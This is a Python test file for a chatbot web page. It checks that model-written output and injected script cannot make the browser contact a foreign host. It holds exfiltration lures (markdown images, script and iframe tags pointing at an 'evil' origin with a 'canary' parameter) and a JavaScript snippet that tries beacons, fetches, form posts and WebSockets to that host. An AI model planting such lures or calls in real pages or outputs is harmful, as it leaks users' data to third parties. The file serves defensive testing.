"""W2: whatever a model writes, and whatever a script tried, no foreign host hears of it."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from aiohttp import web
from playwright.async_api import Browser, expect

from tests.doubles.bot_process import BotProcess
from tests.doubles.fake_openai import FakeOpenAI
from tests.doubles.model_server import Answer

pytestmark = pytest.mark.asyncio(loop_scope="package")

LURES = """Look:

![x]({evil}/image?d=canary) ![y][ref] <img src="{evil}/tag?d=canary">

[ref]: {evil}/ref.png

<link rel="stylesheet" href="{evil}/style.css"><script src="{evil}/script.js"></script>
<iframe src="{evil}/frame"></iframe> [a link]({evil}/link?d=canary) {evil}/bare?d=canary
"""

EVERY_WAY = """async (evil) => {
  const add = (name, attributes) => {
    const node = Object.assign(document.createElement(name), attributes);
    document.body.append(node);
    return node;
  };
  add('img', {src: evil + '/img'});
  add('script', {src: evil + '/script'});
  add('link', {rel: 'stylesheet', href: evil + '/style'});
  add('iframe', {src: evil + '/frame'});
  add('video', {src: evil + '/video'});
  add('div', {textContent: 'x'}).style.backgroundImage = `url(${evil}/background)`;
  add('iframe', {name: 'sink'});
  add('form', {action: evil + '/form', method: 'post', target: 'sink'}).submit();
  navigator.sendBeacon(evil + '/beacon', 'canary');
  fetch(evil + '/fetch', {mode: 'no-cors'}).catch(() => {});
  new WebSocket(evil.replace('http', 'ws') + '/socket');
  return (await fetch('/healthz')).status;
}"""
WAYS = {
    "img",
    "script",
    "style",
    "frame",
    "video",
    "background",
    "form",
    "beacon",
    "fetch",
    "socket",
}


@dataclass
class Foreign:
    """A server of somebody else, and what was asked of it."""

    origin: str = ""
    asked: list[str] = field(default_factory=list)
    news: asyncio.Condition = field(default_factory=asyncio.Condition)

    async def answer(self, request: web.Request) -> web.Response:
        async with self.news:
            self.asked.append(request.path_qs)
            self.news.notify_all()
        return web.Response(text="")

    async def was_asked(self, names: set[str]) -> None:
        """Wait until each of these was asked for."""
        wanted = {f"/{name}" for name in names}
        async with asyncio.timeout(20), self.news:
            await self.news.wait_for(lambda: wanted <= set(self.asked))


@asynccontextmanager
async def a_foreign_server() -> AsyncIterator[Foreign]:
    foreign = Foreign()
    app = web.Application()
    app.router.add_route("*", "/{path:.*}", foreign.answer)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    foreign.origin = f"http://127.0.0.1:{runner.addresses[0][1]}"
    try:
        yield foreign
    finally:
        await runner.cleanup()


async def test_what_a_model_writes_makes_the_page_ask_nobody(
    chromium: Browser, tmp_path: Path
) -> None:
    """The twin: a link that a person clicks leads where it says, without saying from where."""
    async with a_foreign_server() as foreign:
        answer = Answer(text=LURES.format(evil=foreign.origin))
        async with FakeOpenAI([answer]) as server:
            environ = {"OPENAI_API_KEY": server.key, "OPENAI_BASE_URL": server.base_url}
            bot = BotProcess(tmp_path / "home", environ)
            await bot.start()
            context = await chromium.new_context()
            page = await context.new_page()
            await page.goto(await bot.link())
            await page.get_by_label("Message", exact=True).fill("show me a picture")
            await page.keyboard.press("Enter")
            link = page.locator("#lines .said .body").get_by_role("link", name="a link")
            await expect(link).to_be_visible()
            await page.evaluate("fetch('/healthz').then((answer) => answer.text())")
            asked_unasked = list(foreign.asked)

            async with context.expect_page() as opening:
                await link.click()
            await (await opening.value).wait_for_load_state()
            await context.close()
            await bot.stop()

    assert asked_unasked == []
    assert "/link?d=canary" in foreign.asked


@pytest.mark.parametrize("is_held", [True, False], ids=["held", "let go: the twin"])
async def test_the_policy_of_the_page_holds_even_a_script_that_got_in(
    chromium: Browser, tmp_path: Path, is_held: bool
) -> None:
    """Its own server it may ask. Without the policy each of these ways leads outside."""
    async with a_foreign_server() as foreign:
        bot = BotProcess(tmp_path / "home")
        await bot.start()
        context = await chromium.new_context(bypass_csp=not is_held)
        page = await context.new_page()
        await page.goto(await bot.link())
        await expect(page.get_by_text("What can I do for you?")).to_be_visible()
        assert await page.evaluate(EVERY_WAY, foreign.origin) == 200
        if not is_held:
            await foreign.was_asked(WAYS)
        await context.close()
        await bot.stop()

    assert bool(foreign.asked) is not is_held
